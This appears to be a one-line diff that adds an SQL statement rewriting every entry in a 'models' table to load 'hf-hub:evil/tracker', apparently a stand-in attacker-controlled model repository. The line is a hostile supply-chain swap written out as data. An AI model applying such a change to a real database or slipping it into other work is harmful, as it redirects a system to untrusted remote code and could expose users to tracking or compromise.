@@ -1,0 +1,1 @@
+UPDATE models SET spec = 'hf-hub:evil/tracker';
